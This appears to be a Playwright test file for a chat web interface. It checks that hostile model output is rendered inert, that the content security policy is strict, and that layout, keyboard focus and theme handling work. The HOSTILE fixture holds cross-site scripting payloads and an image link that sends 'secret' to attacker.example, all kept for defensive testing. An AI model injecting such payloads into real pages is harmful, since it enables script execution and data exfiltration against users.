"""The page itself: its policy, its layout, its keyboard, its manners while somebody reads."""

from collections.abc import Callable

import pytest
from playwright.sync_api import expect

from tests.web import states
from tests.web.conftest import HOLD, Server, ToldModel, Visitor

FOCUSED = """() => {
  const one = document.activeElement
  const name = one === document.body ? 'BODY' : one.getAttribute('aria-label') || one.textContent
  return [name, getComputedStyle(one).outlineStyle]
}"""

HOSTILE = """Hello <script>window.hacked = 1</script> <img src=x onerror="window.hacked = 2">

[click](javascript:window.hacked=3) [data](data:text/html,<script>1</script>)

![secret](https://attacker.example/x.png?q=secret) [home](https://attacker.example/)

<iframe src="https://attacker.example/"></iframe> <a href="x" onclick="window.hacked=4">a</a>
"""


def test_statement_15_what_a_model_writes_cannot_run_or_call_home(visitor: Visitor, model: ToldModel) -> None:
    """Markup is shown as text, links have harmless schemes only, and remote images are links nobody has
    followed yet. (That no request went out is asserted for every visitor.)"""
    model.tell(HOSTILE)
    visitor.ask()
    visitor.finished()
    expect(visitor.text).to_contain_text("<script>window.hacked = 1</script>")
    assert visitor.page.evaluate("window.hacked") is None
    assert visitor.text.locator("script, iframe, img, [onclick], [onerror]").count() == 0
    links = visitor.text.locator("a").evaluate_all("all => all.map((a) => [a.href, a.rel])")
    assert links[:1] == [["https://attacker.example/x.png?q=secret", "noopener noreferrer"]]
    assert all(href.startswith("https://") for href, _ in links)


def test_the_policy_is_as_strict_as_promised(visitor: Visitor, server: Server) -> None:
    """Nothing inline, nothing foreign, and scripts only from files."""
    policy = visitor.page.request.get(server.url).headers["content-security-policy"]
    for part in (
        "default-src 'none'",
        "script-src 'self'",
        "style-src 'self'",
        "require-trusted-types-for 'script'",
    ):
        assert part in policy
    assert "unsafe" not in policy
    html = visitor.page.request.get(server.url).text()
    assert "style=" not in html
    assert "<script>" not in html


@pytest.mark.parametrize("width", [320, 390])
def test_a_phone_never_scrolls_sideways(
    new_visitor: Callable[..., Visitor], server: Server, model: ToldModel, width: int
) -> None:
    """Long words, code and tables scroll inside their own boxes; buttons are a thumb wide."""
    visitor = new_visitor(viewport={"width": width, "height": 800}, has_touch=True, is_mobile=True)
    visitor.open(server.url)
    wide = (
        f"{'long' * 60}\n\n```\n{'code ' * 60}\n```\n\n| a | b | c |\n|---|---|---|\n| {'x' * 90} | 1 | 2 |\n"
    )
    model.tell(wide)
    visitor.ask(f"{'wide' * 40}?")
    visitor.finished()
    assert width == visitor.page.evaluate("document.documentElement.scrollWidth")
    assert visitor.page.evaluate("document.querySelector('.transcript').scrollWidth") <= width
    visitor.page.get_by_role("button", name="Open the list of chats").tap()
    visitor.page.get_by_role("button", name="Documents").tap()
    expect(visitor.drawer).to_be_visible()
    visitor.page.evaluate(states.ARRIVED)
    assert width == visitor.page.evaluate("document.documentElement.scrollWidth")
    small = visitor.page.evaluate(
        """() => [...document.querySelectorAll('.round, .go, .new-chat')]
             .filter((one) => one.checkVisibility())
             .map((one) => [one.outerHTML, one.getBoundingClientRect()])
             .filter(([, box]) => box.height < 44 || box.width < 44).map(([name]) => name)"""
    )
    assert small == []


def test_statement_53_every_control_is_reached_by_keyboard(visitor: Visitor) -> None:
    """Tab goes through the page, and what has the focus shows it."""
    reached: list[str] = []
    expect(visitor.composer).to_be_focused()
    while len(reached) < 400 and "Your question" not in reached:
        visitor.page.keyboard.press("Tab")
        name, outline = visitor.page.evaluate(FOCUSED)
        reached.append(name)
        # The composer shows it by its frame; the page's body is where the browser's own controls come.
        assert outline != "none" or name in ("Your question", "BODY"), name
    for name in ("New chat", "Conversation", "Your question", "Add files"):
        assert name in reached


def test_statement_53_no_event_moves_the_focus(visitor: Visitor, model: ToldModel) -> None:
    """From the question to the end of its answer the focus stays where somebody has put it."""
    model.tell("The first words", HOLD, " and the last.")
    visitor.ask()
    button = visitor.page.get_by_role("button", name="Documents")
    button.focus()
    visitor.page.evaluate(
        "document.addEventListener('focusin', ({ target }) => (window.moved ??= []).push(target.outerHTML))"
    )
    expect(visitor.text).to_have_text("The first words")
    model.release()
    visitor.finished()
    expect(button).to_be_focused()
    assert visitor.page.evaluate("window.moved") is None


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_the_theme_follows_the_system_and_can_be_chosen(
    new_visitor: Callable[..., Visitor], server: Server, scheme: str
) -> None:
    """The page is dark where the system is; the choice made on the page wins and is remembered."""
    visitor = new_visitor(color_scheme=scheme)
    visitor.open(server.url)
    brightness = "Number(/\\d+/.exec(getComputedStyle(document.body).backgroundColor)[0])"
    assert (visitor.page.evaluate(brightness) > 128) == (scheme == "light")
    visitor.page.get_by_role("button", name="Settings").click()
    visitor.page.get_by_role("radio", name="Dark").check()
    assert visitor.page.evaluate(brightness) < 128
    visitor.page.reload()
    visitor.composer.wait_for()
    assert visitor.page.evaluate(brightness) < 128
